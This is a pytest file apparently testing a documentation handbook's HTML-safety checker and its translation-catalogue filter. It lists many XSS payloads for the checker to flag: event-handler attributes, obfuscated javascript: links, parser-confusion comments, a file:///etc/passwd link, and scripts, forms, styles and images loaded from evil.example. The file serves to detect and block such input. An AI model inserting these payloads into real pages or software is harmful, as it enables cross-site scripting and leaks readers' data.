"""Attacks that reached browsers somewhere once, and plain pages that must not be taken for one."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_corpus import documents
from markdown_dialect import ROOT, english, ours, plain

from handbook.markdown.front_matter import split_page
from handbook.markdown.safety import addresses, dangers_of_translation, examine, hazards, unsafe_scheme
from handbook.markdown.session import State, Target
from handbook.translation.catalog import Catalog, Entry

# HTML that a browser would run, load or send; with what is to be said of it.
LIVE = {
    "<div><![@x</div>": None,
    "<script>alert(1)</script>": "<script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>": "<script>",
    "<scr\x00ipt>": None,
    "<p onclick=alert(1)>x</p>": "the attribute onclick=",
    '<p class="a"onmouseover="alert(1)">x</p>': "the attribute onmouseover=",
    "<img src=x onerror\n=\n'alert(1)'>": "the attribute onerror=",
    '<img/src="x"/onerror=alert(1)>': "the attribute onerror=",
    "<svg><g/onload=alert(1)//>": "the attribute onload=",
    "<details open ontoggle=alert(1)>": "the attribute ontoggle=",
    '<a href="javascript:alert(1)">x</a>': "a javascript: address",
    "<a href='JaVaScRiPt:alert(1)'>x</a>": "a javascript: address",
    '<a href="&#106;avascript:alert(1)">x</a>': "a javascript: address",
    '<a href="&#x6A&#x61vascript&colon;alert(1)">x</a>': "a javascript: address",
    '<a href="java&#9;script:alert(1)">x</a>': "a javascript: address",
    '<a href="java\nscript:alert(1)">x</a>': "a javascript: address",
    '<a href=" \x01javascript:alert(1)">x</a>': "a javascript: address",
    '<a href="java&NewLine;script&colon;alert(1)">x</a>': "a javascript: address",
    '<a href="vbscript:msgbox(1)">x</a>': "a vbscript: address",
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>': "a data: address",
    '<a href="file:///etc/passwd">x</a>': "a file: address",
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>': "a javascript: address",
    '<svg><use href="x.svg#a"/></svg>': "a file that <use> loads",
    "<svg><image href='https://evil.example/x.png'/></svg>": "a file that <image> loads",
    '<svg><a><animate attributeName="href" to="javascript:alert(1)"/></a></svg>': "<animate>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>': "<set>",
    "<svg><foreignObject><p>x</p></foreignObject></svg>": "<foreignobject>",
    '<math href="javascript:alert(1)">x</math>': "<math>",
    '<button formaction="javascript:alert(1)">x</button>': "a javascript: address",
    '<form action="https://evil.example/"></form>': "<form>",
    '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>': "<iframe>",
    "<object data=x></object>": "<object>",
    '<embed src="x.swf">': "<embed>",
    '<base href="https://evil.example/">': "<base>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">': "<meta>",
    '<link rel="stylesheet" href="x.css">': "<link>",
    "<style>@import '//evil.example/x.css'</style>": "<style>",
    "<template><script>1</script></template>": "<template>",
    '<p style="background:url(//evil.example/x.png)">x</p>': "a style that loads a file",
    '<p style="background:u\\72l(//evil.example/x.png)">x</p>': "a style that loads a file",
    "<p style=\"background:image-set('//evil.example/x.png' 1x)\">x</p>": "a style that loads a file",
    '<p style="width:expression(alert(1))">x</p>': "a style that loads a file",
    '<img src="https://evil.example/x.png" alt="x">': "a picture from another host",
    '<img src="//evil.example/x.png" alt="x">': "a picture from another host",
    '<img src="/\t/evil.example/x.png" alt="x">': "a picture from another host",
    '<img src="\\\\evil.example/x.png" alt="x">': "a picture from another host",
    '<img src="a.png" srcset="a.png 1x, https://evil.example/x.png 2x" alt="x">': "a picture from another host",
    '<img src="a.png" srcset="a.png 1x,//evil.example/x.png 2x" alt="x">': "a picture from another host",
    '<video poster="https://evil.example/x.png"></video>': "a file from another host in <video>",
    '<audio src="//evil.example/x.mp3"></audio>': "a file from another host in <audio>",
    '<input type="image" src="//evil.example/x.png">': "a file from another host in <input>",
    '<a href="page.html" ping="https://evil.example/">x</a>': "the attribute ping=",
    # What one parser takes for a comment or a text and another for a tag.
    "<!--><img src=x onerror=alert(1)>-->": "a comment that browsers read differently",
    "<!---><img src=x onerror=alert(1)>-->": "a comment that browsers read differently",
    "<!-- x --!><img src=x onerror=alert(1)>-->": None,
    "<![CDATA[><img src=x onerror=alert(1)>]]>": "<![CDATA[",
    "<title><!--</title><img src=x onerror=alert(1)>-->": "<title>",
    "<textarea></textarea>": "<textarea>",
    "<xmp><!--</xmp><img src=x onerror=alert(1)>-->": "<xmp>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>": "<noscript>",
    "<plaintext>": "<plaintext>",
    # What would end in the page around it.
    "<p>x</p><img src=x onerror=alert(1) ": "a tag that does not end",
    "<p>x</p><a title='": "a tag that does not end",
    "<p>x</p><!-- never ends": "a tag that does not end",
}

HARMLESS = (
    '<p>3 &lt; 4 &amp; 5 > 2</p>',
    '<p>the word javascript: in a text, onclick= too, and <code>&lt;script&gt;</code></p>',
    '<a href="https://example.org/?a=1&amp;b=2">x</a> <a href="mailto:x@example.org">y</a> <a href="tel:+7">z</a>',
    '<a href="../x.html#on" title="a &quot;b&quot;">x</a> <img alt="" src="../assets/a.svg">',
    '<td style="text-align: center;">x</td> <p style="color: red">x</p>',
    '<!-- a plain comment --><br /><hr>',
    '<svg viewBox="0 0 1 1"><path d="M0 0"/><use href="#a"/></svg>',
    '<input type="checkbox" disabled checked/> <label for="x">x</label>',
)  # fmt: skip


@pytest.mark.parametrize("fragment", LIVE)
def test_live_html_is_found(fragment: str) -> None:
    found = [hazard.what for hazard in hazards(fragment)]
    if LIVE[fragment] is None:
        # Pythons differ in which parser trick they see through; what counts is the outcome for each.
        assert found or "onerror" not in fragment
    else:
        assert LIVE[fragment] in found
    assert examine(fragment) == hazards(fragment)


@pytest.mark.parametrize("fragment", HARMLESS)
def test_plain_html_is_left_alone(fragment: str) -> None:
    assert hazards(fragment) == examine(fragment) == []


def test_a_hazard_has_its_line() -> None:
    found = hazards("<p>one</p>\n<p>two</p>\n<p onclick=x>three</p>\n<script>x</script>")
    assert [(hazard.what, hazard.line) for hazard in found] == [("the attribute onclick=", 3), ("<script>", 4)]


def test_real_and_made_pages_hold_no_hazard() -> None:
    for path in sorted((ROOT / "docs").rglob("*.md")):
        assert examine(plain(split_page(path.read_text("utf-8"))[1])) == [], path
    for page in documents()[::9]:
        assert examine(english(page.text).html) == [], page.name


FRAGMENTS = st.lists(st.sampled_from([*LIVE, *HARMLESS, "<", ">", '"', "'", " ", "=", "<p ", "href", "on", "-->", "x"]))


@settings(max_examples=300)
@given(FRAGMENTS)
def test_the_short_cut_clears_only_what_is_clean(parts: list[str]) -> None:
    fragment = "".join(parts)
    assert hazards(fragment) == examine(fragment)


@pytest.mark.parametrize(
    ("address", "scheme"),
    [
        ("page.md", ""), ("../a/b.md#c", ""), ("https://example.org", ""), ("HTTP://EXAMPLE.ORG", ""),
        ("mailto:a@b", ""),
        ("JAVASCRIPT:1", "javascript"), ("java\u200bscript:1", "javascript"), ("&#x6a;avascript:1", "javascript"),
        ("a:b.md", "a"), ("?q=a:b", ""), ("#a:b", ""), ("a/b:c", ""), ("javascript%3A1", ""),
    ],
)  # fmt: skip
def test_the_scheme_of_an_address(address: str, scheme: str) -> None:
    assert unsafe_scheme(address) == scheme


# A source, and translations of it that bring in what the source does not have.
TRAPS = [
    ("Read this.", "Прочтите <script>alert(1)</script>."),
    ("Read this.", "Прочтите <b>это</b>."),
    ("Read this.", "Прочтите <img src=x onerror=alert(1)>"),
    ("Read this.", "Прочтите <img src=x onerror=alert(1) "),
    ("Read this.", "Прочтите <!-- это -->"),
    ("Read this.", "Прочтите <![CDATA[x]]>"),
    ("Read this.", "Прочтите <?x?>"),
    ("Read <b>this</b>.", "<b>Прочтите</b> <b>это</b>."),
    ('Read <a title=">x">this</a>.', 'Прочтите <a title=">x" onclick="alert(1)">это</a>.'),
    ("Write `<b>` so.", "Пишите `x` <b> так."),
    ("Write `<script>` so.", r"Пишите \`<script>\` так."),
    ("Write ``<script>`` so.", "Пишите ``<script> так."),
    ("Read *this*.", "Прочтите *это*{onclick=alert(1)}."),
    ("Read *this*.", "Прочтите *это*{: onclick=alert(1) }."),
    ("Read *this*.", "Прочтите *это*{ {onclick=alert(1)}."),
    ("Read *this*.", "Прочтите *это* {onclick=alert(1)"),
    ("Read *this*{.a}.", "Прочтите *это*{.a onclick=alert(1)}."),
    ("Read *this*{.a}.", "Прочтите *это*{.a}{.b}."),
    ("Read [this](page.md).", "Прочтите [это](javascript:alert(1))."),
    ("Read [this](page.md).", "Прочтите [это](<javascript:alert(1)>)."),
    ("Read [this](page.md).", "Прочтите [это]( &#106;avascript:alert(1))."),
    ("Read [this](page.md).", "Прочтите [это](other.md)."),
    ("Read [this](page.md).", "Прочтите [это](page.md) и ![то](https://evil.example/x.png)."),
    ("Read this.", "Прочтите <https://evil.example>."),
    ("Read this.", "Прочтите <javascript:alert(1)>."),
    ("Read this.", "Прочтите \x02это\x03."),
    ("Read this.", "Прочтите \x00это."),
    ("Read this.", "Статья \u202e9\u202c."),
]

# Translations that differ from their source only in words and order.
HONEST = [
    ("Read **this**.", "Прочтите **это**."),
    ("Read <b>this</b> and <i>that</i>.", "Прочтите <i>то</i> и <b>это</b>."),
    ("Read [this](page.md#a \"That\").", "Прочтите [это](page.md#a \"То\")."),
    ("Read ![this](a.svg){ .figure }.", "Прочтите ![это](a.svg){ .figure }."),
    ("Write to <a@example.org> or <https://example.org>.", "Пишите на <https://example.org> или <a@example.org>."),
    ("If 3 < 4, write `<b>`.", "Если 3 < 4, пишите `<б>`."),
    ("Take {x} and `{y}`.", "Возьмите `{y}` и {x}."),
    ("As in [1]: the act.", "Как в [1]: закон."),
    ("The rule [@iccpr, art. 9] counts[^1].", "Правило[^1] [@iccpr, art. 9] действует."),
    ("One  \ntwo", "Один  \nдва"),
    ("Read <span title=\"a > b\">this</span>", "Прочтите <span title=\"a > b\">это</span>"),
]  # fmt: skip


@pytest.mark.parametrize(("msgid", "msgstr"), TRAPS)
def test_a_translation_brings_nothing_in(msgid: str, msgstr: str) -> None:
    assert list(dangers_of_translation(msgid, msgstr))


@pytest.mark.parametrize(("msgid", "msgstr"), HONEST)
def test_an_honest_translation_is_let_pass(msgid: str, msgstr: str) -> None:
    assert list(dangers_of_translation(msgid, msgstr)) == []


@pytest.mark.parametrize(("msgid", "msgstr"), TRAPS)
def test_a_trap_is_never_shown(msgid: str, msgstr: str) -> None:
    catalogue = Catalog("ru", (Entry(msgid, msgstr),))
    assert catalogue.lookup(msgid).state is State.MISSING
    assert ours(msgid, lookup=catalogue.lookup).html == plain(msgid)


class Parts(HTMLParser):
    """The tags, attribute names and addresses of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.names: set[str] = set()
        self.addresses: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.names.update(name for name, _ in attrs)
        self.addresses.update(value or "" for name, value in attrs if name in ("href", "src"))


LETTERS = st.text("<>{}[]()`\\!/#:=\"' \nabon1é*_&;-", max_size=30)
BITS = st.lists(
    st.sampled_from(["<b>", "</b>", "{.a}", "](x)", "[", "`", "``", "\\", "a", "é ", "<!--", "-->", "<x", ">", "{"])
)


@settings(max_examples=400)
@given(LETTERS | BITS.map("".join), LETTERS | BITS.map("".join))
def test_whatever_is_let_pass_makes_no_new_tag_attribute_or_address(msgid: str, msgstr: str) -> None:
    def lookup(asked: str) -> Target:
        return Target(State.MISSING) if any(dangers_of_translation(asked, msgstr)) else Target(State.CURRENT, msgstr)

    before, after = Parts(plain(msgid)), Parts(ours(msgid, lookup=lookup).html)
    assert after.tags - before.tags <= {"em", "strong", "code", "br", "a", "img"}
    assert after.names - before.names <= {"href", "src", "alt", "title"}
    # An empty address leads nowhere; heading ids are made of the English words.
    assert {address for address in after.addresses - before.addresses if address} <= set(addresses(msgid))
